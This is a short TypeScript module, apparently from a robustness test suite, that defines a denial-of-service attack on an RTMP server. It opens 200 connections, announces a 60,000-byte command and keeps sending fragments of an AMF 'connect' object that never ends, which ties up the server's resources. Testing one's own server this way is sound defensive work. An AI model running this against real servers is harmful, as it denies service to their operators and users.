import type { Attack } from '../attack';
import { holdCalls } from './hold-calls';
import { rtmpHandshake } from './rtmp-handshake';

/** A header of a command of 60,000 bytes, and how its name and object begin. */
const header = Buffer.from([3, 0, 0, 0, 0, 0xea, 0x60, 20, 0, 0, 0, 0]);
const objectBegins = Buffer.from('020007636f6e6e656374003ff000000000000003', 'hex');

/** Commands whose AMF object never ends. */
export const rtmpEndlessObjects: Attack = {
  name: 'half an AMF object for ever by RTMP, 200 at once',
  run: ({ rtmpPort: port }, signal) =>
    holdCalls(
      { port, count: 200 },
      {
        begin: (socket) => socket.write(Buffer.concat([rtmpHandshake(), header, objectBegins])),
        goOn: (socket) => socket.write(Buffer.from([0, 1, 0x61])),
      },
      signal,
    ),
};
